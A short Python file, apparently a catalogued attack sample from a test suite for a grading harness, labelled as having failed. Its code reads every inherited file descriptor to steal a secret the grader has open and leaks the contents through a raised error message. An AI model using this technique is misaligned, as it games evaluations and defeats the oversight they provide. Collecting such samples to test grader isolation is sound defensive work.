"""Reads whatever descriptors it has inherited, from their beginning."""
# /// attack
# class = 9
# goal = "read a file that the grader has open"
# gain = "secret"
# outcome = "failed"
# naive = true
# ///

import os


def standardise(x):
    raise ValueError(loot)


loot = []
for number in range(3, 256):
    try:
        os.set_blocking(number, False)
        found = os.pread(number, 65536, 0)
    except OSError as error:
        if error.errno != 9:
            loot.append((number, error.strerror))
        continue
    loot.append((number, found))
print(loot)
